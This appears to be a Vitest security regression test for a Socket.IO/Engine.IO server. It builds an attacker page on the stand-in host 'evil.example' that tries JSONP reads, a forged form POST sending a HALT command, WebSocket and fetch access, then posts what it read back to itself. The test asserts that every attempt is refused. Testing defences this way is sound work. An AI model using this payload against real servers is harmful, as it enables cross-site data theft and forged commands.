import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { findChromium, openInChromium } from '../helpers/chromium.ts';
import { http, publish, startServer } from '../helpers/start-server.ts';

/** What the page of an attacker tries, and reports to where it came from: everything that a page can do without CORS, and with it. */
function attack(target: string): string {
  return `<!doctype html><body><script>
  const target = ${JSON.stringify(target)};
  const report = { scripts: [], read: '', steps: [] };
  // Engine.IO's JSONP: each answer is a script that calls this.
  window.___eio = [(packets) => { report.read += packets; }];
  const script = (query) => new Promise((resolve) => {
    const element = document.createElement('script');
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('refused');
    element.src = target + '/socket.io/?EIO=4&transport=polling&j=0' + query;
    document.body.append(element);
  });
  const post = (sid, packet) => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = 'frame' + Math.random();
    document.body.append(frame);
    const form = document.createElement('form');
    form.method = 'POST';
    form.target = frame.name;
    form.action = target + '/socket.io/?EIO=4&transport=polling&j=0&sid=' + sid;
    const field = document.createElement('textarea');
    field.name = 'd';
    field.value = packet;
    form.append(field);
    document.body.append(form);
    frame.onload = () => resolve();
    form.submit();
  });
  const socket = () => new Promise((resolve) => {
    const opened = new WebSocket(target.replace('http', 'ws') + '/socket.io/?EIO=4&transport=websocket');
    opened.onopen = () => resolve('open');
    opened.onerror = () => resolve('refused');
  });
  const asked = (path, options) => fetch(target + path, options).then((answer) => answer.type + ' ' + answer.status, () => 'refused');
  (async () => {
    report.fetch = await asked('/api/sessions/victim', {});
    report.poll = await asked('/socket.io/?EIO=4&transport=polling', { credentials: 'include' });
    report.socket = await socket();
    report.scripts.push(await script(''));
    const sid = /"sid":"([^"]+)"/.exec(report.read)?.[1];
    if (sid !== undefined) {
      await post(sid, '40{}');
      report.scripts.push(await script('&sid=' + sid));
      report.scripts.push(await script('&sid=' + sid));
      await post(sid, '42["command",{"type":"HALT","session_id":"victim","reason":"evil page"}]');
      report.scripts.push(await script('&sid=' + sid));
    }
    await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
  })();
</script>`;
}

interface Report {
  fetch: string;
  poll: string;
  socket: string;
  scripts: string[];
  read: string;
}

let chromium: Awaited<ReturnType<typeof findChromium>>;
beforeAll(async () => {
  chromium = await findChromium();
}, 310_000);

describe('row 1: a web page reads and steers everything by JSONP', () => {
  test('a page of http://evil.example in Chromium reads nothing, and nothing is halted', { timeout: 60_000 }, async (context) => {
    if ('missing' in chromium) return context.skip(chromium.missing);
    const server = await startServer();
    await publish(server, 'victim', [{ type: 'execution:started', data: { task: 'SECRET-TASK' } }]);
    const reported = Promise.withResolvers<Report>();
    const evil = createServer((request, response) => {
      if (request.method !== 'POST') {
        response.setHeader('content-type', 'text/html').end(request.url === '/' ? attack(server.url) : '');
        return;
      }
      let text = '';
      request.on('data', (chunk: Buffer) => (text += chunk.toString()));
      request.on('end', () => reported.resolve(JSON.parse(text) as Report));
      response.end();
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => {
      evil.closeAllConnections();
      evil.close();
    });
    openInChromium(chromium.path, `http://evil.example:${(evil.address() as AddressInfo).port}/`, ['evil.example']);
    const report = await reported.promise;
    expect(report).toMatchObject({ fetch: 'refused', poll: 'refused', socket: 'refused', scripts: ['refused'], read: '' });
    const { body } = await http('GET', `${server.url}/api/sessions/victim`);
    expect(body).toMatchObject({ status: 'running' });
    expect((await http('GET', `${server.url}/api/sessions/victim/commands`)).body).toMatchObject({ commands: [] });
    expect((await http('GET', `${server.url}/health`)).body['connected_clients']).toBe(0);
  });
});
